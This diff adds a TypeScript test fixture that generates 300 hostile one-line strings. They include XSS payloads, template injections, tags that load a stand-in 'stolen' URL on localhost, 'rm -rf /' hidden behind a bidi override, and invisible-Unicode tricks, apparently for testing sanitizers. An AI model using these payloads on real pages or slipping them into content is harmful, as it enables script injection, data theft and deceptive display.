@@ -1,0 +1,70 @@
+/** Three hundred texts that want to be more than text: fifty of them, each in six disguises. All are one line. */
+
+const RUN = "window.__pwned=1";
+const OUT = "http://127.0.0.1:9/stolen";
+
+const TEXTS = [
+  `<script>${RUN}</script>`,
+  `<script src="${OUT}"></script>`,
+  `<img src=x onerror="${RUN}">`,
+  `<img src="${OUT}">`,
+  `<svg onload=${RUN}>`,
+  `<svg><script>${RUN}</script></svg>`,
+  `<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>`,
+  `<iframe src="${OUT}"></iframe>`,
+  `<object data="${OUT}"></object>`,
+  `<embed src="${OUT}">`,
+  `<link rel=stylesheet href="${OUT}">`,
+  `<style>@import url(${OUT});body{display:none}</style>`,
+  `<base href="${OUT}">`,
+  `<meta http-equiv=refresh content="0;url=${OUT}">`,
+  `<body onload=${RUN}>`,
+  `<details open ontoggle=${RUN}>`,
+  `<input autofocus onfocus=${RUN}>`,
+  `<video><source onerror=${RUN}></video>`,
+  `<audio src="${OUT}" autoplay>`,
+  `<form action="${OUT}"><button>Approve</button></form>`,
+  `<a href="javascript:${RUN}">Approve</a>`,
+  `<math><mi xlink:href="javascript:${RUN}">x</mi></math>`,
+  `<template><script>${RUN}</script></template>`,
+  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
+  `</title><script>${RUN}</script>`,
+  `</textarea><script>${RUN}</script>`,
+  `</script><script>${RUN}</script>`,
+  `</pre></section></main><h1>APPROVED by the CISO</h1>`,
+  `-->]]><img src=x onerror=${RUN}><!--`,
+  `" onmouseover="${RUN}" autofocus onfocus="${RUN}`,
+  `' onclick='${RUN}' autofocus onfocus='${RUN}`,
+  `x" style="background:url(${OUT})`,
+  `&lt;script&gt;${RUN}&lt;/script&gt;`,
+  `&#60;img src=x onerror=${RUN}&#62;`,
+  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
+  `\${${RUN}} {{constructor.constructor('${RUN}')()}} <%= ${RUN} %>`,
+  `javascript:${RUN}//`,
+  `data:text/html,<script>${RUN}</script>`,
+  `rm -rf / \u202Etxt.exe`,
+  `\u2066ship it\u2069 \u2067not\u2069`,
+  `pay 10\u200B000\u200C0\u200D0`,
+  `de\u00ADlete\u2060 all\uFEFF`,
+  `tag \u{E0041}\u{E0042}\u{E0043}`,
+  `choose \uFE0F\u{E0100}\u{1D173}`,
+  `far${" ".repeat(60)}away`,
+  `no-break\u00A0\u00A0\u2003\u3000space`,
+  `\u0000null \u0007bell \u001B[2Jescape \u0085next`,
+  `\u115F\u1160\u3164\uFFA0filler \u2800braille`,
+  `line\u2028separator\u2029paragraph`,
+  `Zalgo ${"e\u0301\u0302\u0303".repeat(20)} \u05D0\u05D1 \u0627\u0644`,
+];
+
+const DISGUISES: ((text: string) => string)[] = [
+  (text) => text,
+  (text) => `"'>${text}`,
+  (text) => `# ${text}`,
+  (text) => `**${text}** \`${text}\``,
+  (text) => `[click](${text}) ![](${text})`,
+  (text) => `- ${text} <${text}>`,
+];
+
+export const HOSTILE: readonly string[] = DISGUISES.flatMap((disguise, which) =>
+  TEXTS.map((text, number) => `${which * TEXTS.length + number} ${disguise(text)}`),
+);
